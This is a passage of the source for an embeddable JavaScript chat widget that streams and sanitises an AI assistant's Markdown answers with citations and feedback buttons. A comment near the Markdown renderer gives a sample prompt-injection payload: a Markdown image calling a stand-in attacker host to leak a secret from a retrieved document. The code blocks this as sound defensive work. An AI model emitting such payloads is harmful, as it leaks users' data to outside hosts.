// Switchboard embeddable chat widget.
//
//   <script src="https://HOST/widget.js" data-bot="docs" defer></script>
//
// Talks to the Switchboard server at the script's own origin (see docs/widget-api.md). Everything is
// rendered inside an open Shadow DOM. Model output is Markdown: it is rendered with marked and then
// sanitised with DOMPurify before it touches the DOM; every other piece of server or host data is
// inserted as text (textContent), never as HTML.

import { marked } from 'marked';
import DOMPurify from 'dompurify';
import CSS_TEXT from './widget.css';
import { createMic, createPlayer } from './voice.js';

export const VERSION = '0.1.0';

// document.currentScript is only set while this script runs synchronously: capture it first thing.
const OWN_SCRIPT = typeof document !== 'undefined' ? findOwnScript() : null;

const DEFAULT_MAX_MESSAGE_CHARS = 2000; // until the server says its MAX_MESSAGE_CHARS
const MAX_COMMENT_CHARS = 1000;
const DEFAULT_TITLE = 'Assistant';
const CONVERSATION_ID_RE = /^[A-Za-z0-9_-]{8,64}$/;

export const MESSAGES = {
  unreachable: "Can't reach the assistant right now. Please try again in a moment.",
  forbidden: "This website isn't allowed to use this assistant.",
  tooLong: 'Your message is too long.',
  invalid: "The assistant couldn't accept that message.",
  unknownBot: "This assistant isn't available.",
  unauthorized: 'Your chat session is no longer valid. Please reload the page and try again.',
  server: 'The assistant ran into a problem. Please try again in a moment.',
  interrupted: 'The answer was interrupted. Please try again.',
  badResponse: 'The assistant sent an unexpected response. Please try again.',
  streamError: 'The assistant could not answer. Please try again in a moment.',
  generic: 'Something went wrong. Please try again.',
};

// ---------------------------------------------------------------------------------------------
// Pure helpers (exported so they can be unit-tested; the IIFE bundle exposes none of them).
// ---------------------------------------------------------------------------------------------

/**
 * Incremental Server-Sent Events parser (the WHATWG event-stream format).
 * push() takes decoded text chunks split anywhere (even between "\r" and "\n"); onEvent receives
 * {event, data} for every dispatched event (event defaults to "message"; multi-line data is joined
 * with "\n"). end() flushes a final event that lacks its terminating blank line.
 */
export function createSSEParser(onEvent) {
  let buffer = '';
  let eventType = '';
  let dataLines = [];
  let skipLF = false; // last chunk ended in "\r": a leading "\n" in the next one belongs to it
  let first = true;

  function dispatch() {
    if (dataLines.length) onEvent({ event: eventType || 'message', data: dataLines.join('\n') });
    eventType = '';
    dataLines = [];
  }

  function processLine(line) {
    if (line === '') {
      dispatch();
      return;
    }
    if (line.charCodeAt(0) === 58 /* ':' comment */) return;
    const colon = line.indexOf(':');
    let field = line;
    let value = '';
    if (colon !== -1) {
      field = line.slice(0, colon);
      value = line.slice(colon + 1);
      if (value.charCodeAt(0) === 32) value = value.slice(1);
    }
    if (field === 'event') eventType = value;
    else if (field === 'data') dataLines.push(value);
    // "id" and "retry" are irrelevant for a single fetch-based stream.
  }

  return {
    push(chunk) {
      if (!chunk) return;
      if (first) {
        first = false;
        if (chunk.charCodeAt(0) === 0xfeff) chunk = chunk.slice(1);
      }
      if (skipLF) {
        skipLF = false;
        if (chunk.charCodeAt(0) === 10) chunk = chunk.slice(1);
      }
      buffer += chunk;
      let start = 0;
      for (let i = 0; i < buffer.length; i++) {
        const c = buffer.charCodeAt(i);
        if (c !== 10 && c !== 13) continue;
        processLine(buffer.slice(start, i));
        if (c === 13) {
          if (i + 1 < buffer.length) {
            if (buffer.charCodeAt(i + 1) === 10) i++;
          } else {
            skipLF = true;
          }
        }
        start = i + 1;
      }
      buffer = buffer.slice(start);
    },
    end() {
      if (buffer) processLine(buffer);
      buffer = '';
      dispatch();
    },
  };
}

const CITE_MARKER_RE = /\[(\d{1,3}(?:\s*[,;]\s*\d{1,3})*)\]/g;

/**
 * Split text at citation markers: "[2]", also "[1, 3]". Returns null when the text has no marker
 * whose numbers are all in `known` (a Set of numbers); otherwise an array of strings and {n} items.
 */
export function splitCitationMarkers(text, known) {
  if (!text || !known || !known.size || text.indexOf('[') === -1) return null;
  let out = null;
  let last = 0;
  CITE_MARKER_RE.lastIndex = 0;
  let m;
  while ((m = CITE_MARKER_RE.exec(text))) {
    const nums = m[1].split(/\s*[,;]\s*/).map(Number);
    if (!nums.every((n) => known.has(n))) continue;
    if (!out) out = [];
    if (m.index > last) out.push(text.slice(last, m.index));
    for (const n of nums) out.push({ n });
    last = m.index + m[0].length;
  }
  if (!out) return null;
  if (last < text.length) out.push(text.slice(last));
  return out;
}

/**
 * Replace citation markers in the TEXT NODES under `root` (not inside code, pre, links or buttons)
 * with elements made by makeButton(n). Returns how many buttons were inserted.
 */
export function linkifyCitations(root, known, makeButton) {
  if (!known || !known.size) return 0;
  const doc = root.ownerDocument;
  const walker = doc.createTreeWalker(root, 4 /* NodeFilter.SHOW_TEXT */);
  const found = [];
  for (let node = walker.nextNode(); node; node = walker.nextNode()) {
    if (node.nodeValue.indexOf('[') === -1) continue;
    const parent = node.parentElement;
    if (parent && parent !== root && parent.closest('code, pre, a, button')) continue;
    found.push(node);
  }
  let count = 0;
  for (const node of found) {
    const parts = splitCitationMarkers(node.nodeValue, known);
    if (!parts) continue;
    const frag = doc.createDocumentFragment();
    for (const part of parts) {
      if (typeof part === 'string') frag.appendChild(doc.createTextNode(part));
      else {
        frag.appendChild(makeButton(part.n));
        count++;
      }
    }
    node.parentNode.replaceChild(frag, node);
  }
  return count;
}

const ID_ALPHABET = 'ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789_-';

/** Random conversation id: `length` chars of [A-Za-z0-9_-] from crypto.getRandomValues (no bias: 64 symbols). */
export function makeConversationId(length = 32, cryptoObj = typeof crypto !== 'undefined' ? crypto : null) {
  const bytes = new Uint8Array(length);
  cryptoObj.getRandomValues(bytes);
  let id = '';
  for (let i = 0; i < length; i++) id += ID_ALPHABET[bytes[i] & 63];
  return id;
}

export function isValidConversationId(id) {
  return typeof id === 'string' && CONVERSATION_ID_RE.test(id);
}

export function isHttpUrl(value) {
  return typeof value === 'string' && /^https?:\/\//i.test(value);
}

/** Resolve a possibly relative URL against base; only http(s) results are returned, else null. */
export function resolveHttpUrl(value, base) {
  if (typeof value !== 'string' || !value.trim()) return null;
  try {
    const url = new URL(value.trim(), base);
    return url.protocol === 'http:' || url.protocol === 'https:' ? url.href : null;
  } catch (e) {
    return null;
  }
}

/** Retry-After header (delta-seconds or HTTP-date) → whole seconds ≥ 1, or null. */
export function parseRetryAfter(value, now = Date.now()) {
  if (value == null) return null;
  const text = String(value).trim();
  if (!text) return null;
  if (/^\d+(\.\d+)?$/.test(text)) return Math.max(1, Math.ceil(Number(text)));
  const when = Date.parse(text);
  if (Number.isNaN(when)) return null;
  return Math.max(1, Math.ceil((when - now) / 1000));
}

/** A server `detail` (a string; tolerate FastAPI's list of {msg} for validation errors) → text or null. */
export function detailText(detail) {
  if (typeof detail === 'string') return detail.trim() || null;
  if (Array.isArray(detail)) {
    const msgs = detail
      .map((d) => (typeof d === 'string' ? d : d && typeof d.msg === 'string' ? d.msg : ''))
      .filter(Boolean);
    return msgs.length ? msgs.join('; ') : null;
  }
  if (detail && typeof detail === 'object' && typeof detail.message === 'string') return detail.message;
  return null;
}

/** The in-chat message for an HTTP error status. */
export function describeHttpError(status, detail, retryAfter) {
  switch (status) {
    case 429:
      if (retryAfter != null) {
        return `You're sending messages too quickly. Please wait ${retryAfter} second${retryAfter === 1 ? '' : 's'}.`;
      }
      return "You're sending messages too quickly. Please wait a moment and try again.";
    case 403:
      return detail || MESSAGES.forbidden;
    case 413:
      return detail || MESSAGES.tooLong;
    case 422:
      return detail || MESSAGES.invalid;
    case 404:
      return detail || MESSAGES.unknownBot;
    case 401:
      return detail || MESSAGES.unauthorized;
    default:
      if (status >= 500) return MESSAGES.server;
      return detail || MESSAGES.generic;
  }
}

/** localStorage key: one per server origin and bot (and verified user, so identities never mix). */
export function storageKey(origin, bot, userId) {
  return `switchboard:v1:${origin}:${bot}` + (userId ? `:user:${userId}` : '');
}

/** WCAG relative luminance of "rgb(r, g, b)" / "rgba(...)" → text colour that contrasts best. */
export function contrastColor(rgbString) {
  const m = /^rgba?\(\s*([\d.]+)[\s,]+([\d.]+)[\s,]+([\d.]+)/i.exec(rgbString || '');
  if (!m) return '#ffffff';
  const lin = (v) => {
    const c = Math.min(255, Number(v)) / 255;
    return c <= 0.03928 ? c / 12.92 : Math.pow((c + 0.055) / 1.055, 2.4);
  };
  const L = 0.2126 * lin(m[1]) + 0.7152 * lin(m[2]) + 0.0722 * lin(m[3]);
  return 1.05 / (L + 0.05) >= (L + 0.05) / 0.05 ? '#ffffff' : '#111827';
}

// ---------------------------------------------------------------------------------------------
// Markdown → sanitised HTML
// ---------------------------------------------------------------------------------------------

// Images in model output are shown as links, never fetched automatically: an injected
// ![](https://evil.example/?q=secret) in a retrieved document must not be able to leak data.
marked.use({
  renderer: {
    image(token) {
      const href = token && typeof token.href === 'string' ? token.href : '';
      const label = (token && (token.text || token.title)) || href;
      return `<a href="${escapeHtml(href)}">${escapeHtml('Image: ' + label)}</a>`;
    },
  },
});

const PURIFY_CONFIG = {
  USE_PROFILES: { html: true },
  FORBID_TAGS: [
    'style', 'img', 'picture', 'source', 'video', 'audio', 'track', 'form', 'input', 'button',
    'textarea', 'select', 'option', 'label', 'dialog',
  ],
  // no id/class/style: model output must not restyle or impersonate the widget's own elements
  FORBID_ATTR: ['style', 'class', 'id', 'tabindex', 'accesskey'],
};

let purifyReady = false;

function setupPurify() {
  if (purifyReady) return;
  purifyReady = true;
  DOMPurify.addHook('afterSanitizeAttributes', (node) => {
    if (node.nodeName === 'A' && node.hasAttribute('href')) {
      node.setAttribute('target', '_blank');
      node.setAttribute('rel', 'noopener noreferrer');
    }
  });
}

function escapeHtml(text) {
  return String(text).replace(/[&<>"']/g, (c) => `&#${c.charCodeAt(0)};`);
}

function markdownToSafeHtml(markdown) {
  setupPurify();
  const html = marked.parse(markdown || '', { async: false });
  return DOMPurify.sanitize(html, PURIFY_CONFIG);
}

// ---------------------------------------------------------------------------------------------
// Small DOM helpers (text only: h() never interprets strings as HTML)
// ---------------------------------------------------------------------------------------------

function h(tag, attrs, ...children) {
  const el = document.createElement(tag);
  if (attrs) {
    for (const key of Object.keys(attrs)) {
      const value = attrs[key];
      if (value == null || value === false) continue;
      if (key === 'class') el.className = value;
      else if (key === 'text') el.textContent = value;
      else el.setAttribute(key, value === true ? '' : String(value));
    }
  }
  for (const child of children) {
    if (child == null || child === false) continue;
    el.appendChild(typeof child === 'string' ? document.createTextNode(child) : child);
  }
  return el;
}

const SVG_NS = 'http://www.w3.org/2000/svg';
const ICONS = {
  chat: ['M21 14.5a2.5 2.5 0 0 1-2.5 2.5H8l-5 4V5.5A2.5 2.5 0 0 1 5.5 3h13A2.5 2.5 0 0 1 21 5.5z'],
  close: ['M6 6l12 12', 'M18 6L6 18'],
  newChat: ['M12 5v14', 'M5 12h14'],
  send: ['M4 12l16-8-6 16-3-7z', 'M11 13l9-9'],
  copy: ['M9 9h11v11H9z', 'M5 15H4V4h11v1'],
  check: ['M5 12.5l4.5 4.5L19 7.5'],
  external: ['M14 4h6v6', 'M20 4l-9 9', 'M18 14v5a1 1 0 0 1-1 1H5a1 1 0 0 1-1-1V7a1 1 0 0 1 1-1h5'],
  mic: ['M12 3a3 3 0 0 1 3 3v6a3 3 0 0 1-6 0V6a3 3 0 0 1 3-3z', 'M5 11a7 7 0 0 0 14 0', 'M12 18v3'],
  speaker: ['M4 9h4l5-4v14l-5-4H4z', 'M16 9a4 4 0 0 1 0 6', 'M18.5 6.5a7.5 7.5 0 0 1 0 11'],
  up: ['M3 10h4v11H3z', 'M7 10l4-7c1.6 0 2.6 1.1 2.3 2.7L12.6 9H19a2 2 0 0 1 2 2.3l-1.2 7.4A2.5 2.5 0 0 1 17.3 21H7'],
};

function icon(name, rotate) {
  const svg = document.createElementNS(SVG_NS, 'svg');
  svg.setAttribute('viewBox', '0 0 24 24');
  svg.setAttribute('aria-hidden', 'true');
  svg.setAttribute('focusable', 'false');
  const g = document.createElementNS(SVG_NS, 'g');
  if (rotate) g.setAttribute('transform', 'rotate(180 12 12)');
  for (const d of ICONS[name]) {
    const path = document.createElementNS(SVG_NS, 'path');
    path.setAttribute('d', d);
    g.appendChild(path);
  }
  svg.appendChild(g);
  return svg;
}

function iconButton(name, label, attrs, rotate) {
  const btn = h('button', Object.assign({ type: 'button', class: 'sb-icon-btn', 'aria-label': label, title: label }, attrs));
  btn.appendChild(icon(name, rotate));
  return btn;
}

function typingIndicator(testid, label) {
  return h(
    'div',
    { class: 'sb-typing', 'data-testid': testid, role: 'img', 'aria-label': label },
    h('span'),
    h('span'),
    h('span'),
  );
}

function networkError() {
  const err = new Error(MESSAGES.unreachable);
  err.kind = 'network';
  return err;
}

async function httpError(res) {
  let detail = null;
  try {
    const body = await res.json();
    detail = detailText(body && body.detail);
  } catch (e) {
    /* not JSON */
  }
  const err = new Error(detail || `HTTP ${res.status}`);
  err.status = res.status;
  err.detail = detail;
  err.retryAfter = parseRetryAfter(res.headers.get('Retry-After'));
  if (err.retryAfter == null && res.status === 429 && detail) {
    const m = /(\d+)\s*(?:s\b|sec|second)/i.exec(detail);
    if (m) err.retryAfter = Math.max(1, Number(m[1]));
  }
  return err;
}

function errorText(err) {
  if (!err) return MESSAGES.generic;
  if (typeof err === 'string') return err;
  if (err.kind === 'network') return MESSAGES.unreachable;
  if (typeof err.status === 'number') return describeHttpError(err.status, err.detail, err.retryAfter);
  if (err.userMessage) return err.userMessage;
  return MESSAGES.generic;
}

function isAbort(err) {
  return !!err && err.name === 'AbortError';
}

function str(value) {
  return typeof value === 'string' && value.trim() ? value.trim() : null;
}

// ---------------------------------------------------------------------------------------------
// Storage (localStorage may be unavailable: sandboxed iframes, blocked third-party storage...)
// ---------------------------------------------------------------------------------------------

function makeStore(key) {
  let memory = {};
  return {
    load() {
      try {
        const raw = window.localStorage.getItem(key);
        const obj = raw ? JSON.parse(raw) : null;
        if (obj && typeof obj === 'object') memory = obj;
      } catch (e) {
        /* fall back to memory */
      }
      return memory;
    },
    save(obj) {
      memory = obj;
      try {
        window.localStorage.setItem(key, JSON.stringify(obj));
      } catch (e) {
        /* memory only */
      }
    },
  };
}

// ---------------------------------------------------------------------------------------------
// The widget
// ---------------------------------------------------------------------------------------------

function mount(opts) {
  const { base, bot } = opts;
  let mode = opts.mode;
  let targetEl = null;
  if (mode === 'inline') {
    try {
      targetEl = opts.target ? document.querySelector(opts.target) : null;
    } catch (e) {
      targetEl = null;
    }
    if (!targetEl) {
      console.warn(`[switchboard] data-target ${JSON.stringify(opts.target || '')} not found; showing a chat bubble instead`);
      mode = 'floating';
    }
  }
  const floating = mode === 'floating';

  // ---- host + shadow root ----
  const host = document.createElement('switchboard-widget');
  host.setAttribute('data-sb-mode', mode);
  host.setAttribute('data-bot', bot);
  const shadow = host.attachShadow({ mode: 'open' });
  if (shadow.adoptedStyleSheets !== undefined && typeof CSSStyleSheet === 'function') {
    try {
      // constructable stylesheets are not blocked by a host page's style-src CSP
      const sheet = new CSSStyleSheet();
      sheet.replaceSync(CSS_TEXT);
      shadow.adoptedStyleSheets = [sheet];
    } catch (e) {
      shadow.appendChild(h('style', { text: CSS_TEXT }));
    }
  } else {
    shadow.appendChild(h('style', { text: CSS_TEXT }));
  }

  const root = h('div', { class: 'sb-root', 'data-mode': mode, 'data-position': 'right', 'data-open': floating ? 'false' : 'true' });
  shadow.appendChild(root);

  // ---- launcher (floating mode) ----
  let launcher = null;
  if (floating) {
    launcher = h('button', {
      type: 'button',
      class: 'sb-launcher',
      'data-testid': 'sb-launcher',
      'aria-label': 'Open chat',
      'aria-expanded': 'false',
      'aria-controls': 'sb-panel',
      'aria-haspopup': 'dialog',
      title: 'Open chat',
    });
    launcher.appendChild(icon('chat'));
    root.appendChild(launcher);
  }

  // ---- panel ----
  const panel = h('section', {
    class: 'sb-panel',
    id: 'sb-panel',
    'data-testid': 'sb-panel',
    role: floating ? 'dialog' : 'region',
    'aria-label': DEFAULT_TITLE,
  });
  if (floating) panel.hidden = true;

  const avatarEl = h('img', { class: 'sb-avatar', alt: '', 'data-testid': 'sb-avatar', referrerpolicy: 'no-referrer' });
  avatarEl.hidden = true;
  // shown only once it has loaded: a broken image never appears in the header
  avatarEl.addEventListener('load', () => {
    avatarEl.hidden = false;
  });
  avatarEl.addEventListener('error', () => {
    avatarEl.hidden = true;
  });
  const titleEl = h('h2', { class: 'sb-title', 'data-testid': 'sb-title', text: DEFAULT_TITLE });
  const newBtn = iconButton('newChat', 'New conversation', { 'data-testid': 'sb-new' });
  const header = h('div', { class: 'sb-header' }, avatarEl, titleEl, newBtn);
  let closeBtn = null;
  if (floating) {
    closeBtn = iconButton('close', 'Close chat', { 'data-testid': 'sb-close' });
    header.appendChild(closeBtn);
  }

  const log = h('div', { class: 'sb-log', role: 'log', 'aria-live': 'polite', 'aria-relevant': 'additions text', 'data-testid': 'sb-log' });

  const input = h('textarea', {
    class: 'sb-input',
    id: 'sb-input',
    'data-testid': 'sb-input',
    rows: '1',
    maxlength: String(DEFAULT_MAX_MESSAGE_CHARS),
    placeholder: 'Ask a question…',
    autocomplete: 'off',
    enterkeyhint: 'send',
  });
  const inputLabel = h('label', { class: 'sb-visually-hidden', for: 'sb-input', text: 'Type your message' });
  const sendBtn = iconButton('send', 'Send message', { 'data-testid': 'sb-send' });
  sendBtn.className = 'sb-send';
  // Voice (widget/src/voice.js): shown once the session says this bot has it.
  const mic = createMic({
    h,
    iconButton,
    authed: (path, init) => authed(path, init),
    httpError,
    errorText,
    onText(text) {
      input.value = input.value.trim() ? `${input.value.trim()} ${text}` : text;
      autosize();
      input.focus();
    },
  });
  const player = createPlayer();
  const composer = h('form', { class: 'sb-composer', novalidate: true }, inputLabel, input, mic.button, sendBtn);
  sendBtn.type = 'submit';

  panel.append(header, log, mic.status, composer);
  root.appendChild(panel);

  // ---- state ----
  const store = makeStore(storageKey(base, bot, opts.userId && opts.userHash ? opts.userId : null));
  const stored = store.load();
  const state = {
    token: null,
    expiresAt: 0,
    previousToken: str(stored.token),
    conversationId: isValidConversationId(stored.conversation_id) ? stored.conversation_id : null,
    config: null,
    maxChars: DEFAULT_MAX_MESSAGE_CHARS,
    open: !floating,
    busy: false,
    abort: null,
  };
  const hadConversation = !!state.conversationId;
  let mintPromise = null;
  let startPromise = null;
  let started = false;
  let welcomeEl = null;

  function persist() {
    store.save({ token: state.token || state.previousToken || null, conversation_id: state.conversationId });
  }

  // ---- theming / config ----
  function applyConfig() {
    const cfg = state.config || {};
    const title = str(opts.title) || str(cfg.title) || str(cfg.name) || DEFAULT_TITLE;
    titleEl.textContent = title;
    panel.setAttribute('aria-label', title);

    const color = str(opts.color) || str(cfg.color);
    if (color && window.CSS && CSS.supports && CSS.supports('color', color)) {
      host.style.setProperty('--sb-accent', color);
      const probe = h('span');
      probe.style.color = color;
      root.appendChild(probe);
      const computed = getComputedStyle(probe).color;
      probe.remove();
      host.style.setProperty('--sb-accent-contrast', contrastColor(computed));
    }

    const avatar = resolveHttpUrl(str(opts.avatar) || str(cfg.avatar), base);
    if (avatar) {
      if (avatarEl.getAttribute('src') !== avatar) {
        avatarEl.hidden = true;
        avatarEl.src = avatar;
      } else {
        avatarEl.hidden = !(avatarEl.complete && avatarEl.naturalWidth > 0);
      }
    } else {
      avatarEl.hidden = true;
      avatarEl.removeAttribute('src');
    }

    const position = str(opts.position) || str(cfg.position);
    root.setAttribute('data-position', position === 'left' ? 'left' : 'right');

    if (welcomeEl) fillWelcome(welcomeEl);
    mic.setAvailable(cfg.voice === true);
  }

  function welcomeText() {
    if (opts.welcome != null) return opts.welcome;
    const cfg = state.config;
    return cfg && typeof cfg.welcome === 'string' ? cfg.welcome : '';
  }

  // ---- scrolling ----
  function nearBottom() {
    return log.scrollHeight - log.scrollTop - log.clientHeight < 80;
  }
  function scrollToBottom() {
    log.scrollTop = log.scrollHeight;
  }
  function append(el, force) {
    const stick = force || nearBottom();
    log.appendChild(el);
    if (stick) scrollToBottom();
    return el;
  }

  // ---- messages ----
  function showError(err) {
    const el = h('div', {
      class: 'sb-msg',
      'data-testid': 'sb-message',
      'data-role': 'error',
      role: 'alert',
      text: errorText(err),
    });
    return append(el, true);
  }

  function appendUser(text) {
    return append(h('div', { class: 'sb-msg', 'data-testid': 'sb-message', 'data-role': 'user', text }), true);
  }

  function fillWelcome(el) {
    const text = welcomeText();
    el.hidden = !text;
    renderMarkdownInto(el.firstChild, text || '', null);
  }

  function renderWelcome() {
    welcomeEl = h('div', { class: 'sb-msg', 'data-testid': 'sb-message', 'data-role': 'assistant', 'data-kind': 'welcome' }, h('div', { class: 'sb-md' }));
    fillWelcome(welcomeEl);
    log.insertBefore(welcomeEl, log.firstChild);
  }

  function renderMarkdownInto(container, markdown, known) {
    let html;
    try {
      html = markdownToSafeHtml(markdown);
    } catch (e) {
      container.textContent = markdown;
      return;
    }
    container.innerHTML = html; // DOMPurify output only
    linkifyCitations(container, known, makeCiteButton);
  }

  function makeCiteButton(n) {
    // shows a "n" pill; the brackets stay in the text (copying a selection keeps "[n]")
    return h(
      'button',
      {
        type: 'button',
        class: 'sb-cite',
        'data-testid': 'sb-cite',
        'data-n': String(n),
        'aria-label': `Show source ${n}`,
        title: `Source ${n}`,
      },
      h('span', { class: 'sb-visually-hidden', text: '[' }),
      String(n),
      h('span', { class: 'sb-visually-hidden', text: ']' }),
    );
  }

  function citationNumbers(list) {
    const set = new Set();
    if (Array.isArray(list)) {
      for (const c of list) {
        const n = c && Number(c.n);
        if (Number.isInteger(n)) set.add(n);
      }
    }
    return set;
  }

  function buildSources(citations, cited) {
    const label = cited === false ? 'Sources consulted' : 'Sources';
    const wrap = h('div', { class: 'sb-sources', 'data-testid': 'sb-sources' });
    const heading = h('p', { class: 'sb-sources-label', text: label });
    const list = h('ol', { 'aria-label': label });
    for (const c of citations) {
      if (!c || typeof c !== 'object') continue;
      const n = Number(c.n);
      const title = str(c.title);
      const section = str(c.section);
      const source = str(c.source);
      const snippet = typeof c.snippet === 'string' ? c.snippet : '';

      const labelEl = h('span', { class: 'sb-cit-label' }, h('span', { class: 'sb-cit-title', text: title || source || `Source ${n}` }));
      if (section) labelEl.append(h('span', { class: 'sb-cit-sep', 'aria-hidden': 'true', text: '›' }), h('span', { class: 'sb-cit-section', text: section }));
      const summary = h('summary', null, h('span', { class: 'sb-cit-n', text: Number.isFinite(n) ? String(n) : '•' }), labelEl);
      const web = source && isHttpUrl(source);
      if (web) {
        // a compact link at the row's end: a click anywhere else on the row expands the entry
        const open = h('a', { class: 'sb-cit-open', href: source, target: '_blank', rel: 'noopener noreferrer', 'aria-label': `Open source ${n} in a new tab`, title: source });
        open.appendChild(icon('external'));
        summary.appendChild(open);
      }
      const details = h('details', null, summary);
      const body = h('div', { class: 'sb-cit-body' });
      if (source) {
        body.appendChild(
          web
            ? h('a', { class: 'sb-cit-src', href: source, target: '_blank', rel: 'noopener noreferrer', text: source })
            : h('span', { class: 'sb-cit-src', text: source }),
        );
      }
      if (snippet) body.appendChild(h('blockquote', { class: 'sb-snippet', text: snippet }));
      if (body.firstChild) details.appendChild(body);
      else summary.classList.add('sb-no-body');
      list.appendChild(h('li', { class: 'sb-citation', 'data-testid': 'sb-citation', 'data-n': Number.isFinite(n) ? String(n) : '' }, details));
    }
    wrap.append(heading, list);
    return wrap;
  }

  // One assistant answer: created empty, filled while streaming, then finished (or from history).
  function createAnswer() {
    const md = h('div', { class: 'sb-md' });
    const el = h('div', { class: 'sb-msg', 'data-testid': 'sb-message', 'data-role': 'assistant' }, md);
    let known = null;
    let pending = null;
    let frame = 0;
    let sourcesEl = null;
    let flashTimer = 0;

    el.addEventListener('click', (event) => {
      const btn = event.target.closest && event.target.closest('.sb-cite');
      if (!btn || !el.contains(btn)) return;
      event.preventDefault();
      focusCitation(btn.getAttribute('data-n'));
    });

    function focusCitation(n) {
      if (!sourcesEl) return;
      const entry = sourcesEl.querySelector(`.sb-citation[data-n="${CSS.escape ? CSS.escape(n) : n}"]`);
      if (!entry) return;
      const details = entry.querySelector('details');
      if (details) details.open = true;
      for (const other of sourcesEl.querySelectorAll('.sb-flash')) other.classList.remove('sb-flash');
      entry.classList.add('sb-flash');
      clearTimeout(flashTimer);
      flashTimer = setTimeout(() => entry.classList.remove('sb-flash'), 2000);
      if (entry.scrollIntoView) entry.scrollIntoView({ block: 'nearest', behavior: 'smooth' });
      const summary = entry.querySelector('summary');
      if (summary) summary.focus({ preventScroll: true });
    }

    function flush() {
      frame = 0;
      if (pending == null) return;
      const stick = nearBottom();
      renderMarkdownInto(md, pending, known);
      pending = null;
      if (stick) scrollToBottom();
    }

    return {
      el,
      setSources(list) {
        known = citationNumbers(list);
      },
      setText(text) {
        el.classList.add('sb-streaming');
        pending = text;
        if (!frame) frame = requestAnimationFrame(flush);
      },
      finish(item) {
        if (frame) cancelAnimationFrame(frame);
        frame = 0;
        pending = null;
        el.classList.remove('sb-streaming');
        const citations = Array.isArray(item.citations) ? item.citations : [];
        known = citationNumbers(citations);
        const stick = nearBottom();
        const markdown = typeof item.text === 'string' ? item.text : '';
        renderMarkdownInto(md, markdown, known);
        if (item.fallback === true) el.classList.add('sb-fallback');
        if (item.answer_id != null) el.setAttribute('data-answer-id', String(item.answer_id));
        if (citations.length) {
          sourcesEl = buildSources(citations, item.cited);
          el.appendChild(sourcesEl);
        }
        el.appendChild(buildActions(markdown, item.answer_id));
        if (stick) scrollToBottom();
      },
      abandon() {
        // stream failed part-way: keep what arrived, without actions
        if (frame) cancelAnimationFrame(frame);
        frame = 0;
        if (pending != null) renderMarkdownInto(md, pending, known);
        pending = null;
        el.classList.remove('sb-streaming');
      },
    };
  }

  function buildActions(markdown, answerId) {
    const actions = h('div', { class: 'sb-actions' });
    const status = h('span', { class: 'sb-status', role: 'status' });
    let statusTimer = 0;
    function say(text, sticky) {
      status.textContent = text;
      clearTimeout(statusTimer);
      if (!sticky) statusTimer = setTimeout(() => (status.textContent = ''), 2500);
    }

    const copyBtn = iconButton('copy', 'Copy answer', { 'data-testid': 'sb-copy' });
    copyBtn.addEventListener('click', async () => {
      const ok = await copyText(markdown);
      copyBtn.replaceChildren(icon(ok ? 'check' : 'copy'));
      say(ok ? 'Copied' : "Couldn't copy. Select the text to copy it.");
      setTimeout(() => copyBtn.replaceChildren(icon('copy')), 1800);
    });
    actions.appendChild(copyBtn);
    if (state.config && state.config.speech === true) {
      actions.appendChild(player.readAloudButton(markdown, { iconButton, authed, httpError, say }));
    }

    if (answerId != null && answerId !== '') {
      const upBtn = iconButton('up', 'Helpful answer', { 'data-testid': 'sb-thumb-up', 'aria-pressed': 'false' });
      const downBtn = iconButton('up', 'Unhelpful answer', { 'data-testid': 'sb-thumb-down', 'aria-pressed': 'false' }, true);
      let rating = null;
      let commentBox = null;

      const setPressed = (value) => {
        rating = value;
        upBtn.setAttribute('aria-pressed', String(value === 'up'));
        downBtn.setAttribute('aria-pressed', String(value === 'down'));
      };

      const rate = async (value) => {
        if (rating === value) return;
        const before = rating;
        setPressed(value);
        try {
          await sendFeedback(answerId, value);
        } catch (err) {
          setPressed(before);
          say(feedbackErrorText(err));
          return;
        }
        if (value === 'down') {
          say('Thanks for the feedback.');
          if (!commentBox) {
            commentBox = buildCommentBox(answerId, (text) => say(text, true));
            actions.after(commentBox);
          }
          commentBox.hidden = false;
        } else {
          say('Thanks for the feedback!');
          if (commentBox) commentBox.hidden = true;
        }
      };
      upBtn.addEventListener('click', () => rate('up'));
      downBtn.addEventListener('click', () => rate('down'));
      actions.append(upBtn, downBtn);
    }
    actions.appendChild(status);
    return actions;
  }

  function buildCommentBox(answerId, onDone) {
    const id = `sb-comment-${Math.random().toString(36).slice(2, 10)}`;
    const area = h('textarea', {
      id,
      rows: '2',
      maxlength: String(MAX_COMMENT_CHARS),
      placeholder: 'What was wrong? (optional)',
      'data-testid': 'sb-feedback-comment',
    });
    const label = h('label', { class: 'sb-visually-hidden', for: id, text: 'What was wrong with this answer? (optional)' });
    const btn = h('button', { type: 'submit', 'aria-label': 'Send feedback comment', 'data-testid': 'sb-feedback-send', text: 'Send' });
    const form = h('form', { class: 'sb-comment', novalidate: true }, label, area, btn);
    form.addEventListener('submit', async (event) => {
      event.preventDefault();
      const comment = area.value.trim().slice(0, MAX_COMMENT_CHARS);
      if (!comment) {
        area.focus();
        return;
      }
      btn.disabled = true;
      try {
        await sendFeedback(answerId, 'down', comment);
      } catch (err) {
        btn.disabled = false;
        onDone(feedbackErrorText(err));
        return;
      }
      form.hidden = true;
      onDone('Thanks, your comment was sent.');
    });
    area.addEventListener('keydown', (event) => {
      if (event.key === 'Enter' && !event.shiftKey && !event.isComposing && event.keyCode !== 229) {
        event.preventDefault();
        if (typeof form.requestSubmit === 'function') form.requestSubmit();
        else form.dispatchEvent(new Event('submit', { cancelable: true }));
      }
    });
    return form;
  }

  function feedbackErrorText(err) {
    if (err && err.kind === 'network') return "Couldn't send feedback: can't reach the assistant.";
    if (err && err.status === 429) return errorText(err);
    return "Couldn't send feedback.";
  }

  async function copyText(text) {
    try {
      if (navigator.clipboard && navigator.clipboard.writeText) {
        await navigator.clipboard.writeText(text);
        return true;
      }
    } catch (e) {
      /* try the legacy path */
    }
    const active = shadow.activeElement;
    try {
      const area = h('textarea', { readonly: true, 'aria-hidden': 'true', tabindex: '-1' });
      area.value = text;
      area.style.position = 'fixed';
      area.style.top = '0';
      area.style.left = '0';
      area.style.opacity = '0';
      root.appendChild(area);
      area.select();
      const ok = document.execCommand('copy');
      area.remove();
      if (active && active.focus) active.focus();
      return !!ok;
    } catch (e) {
      return false;
    }
  }

  // ---- HTTP ----
  async function request(path, { method = 'GET', body, auth = false, signal, accept = 'application/json' } = {}) {
    const headers = { Accept: accept };
    const raw = typeof Blob !== 'undefined' && body instanceof Blob; // a recording, sent as it is
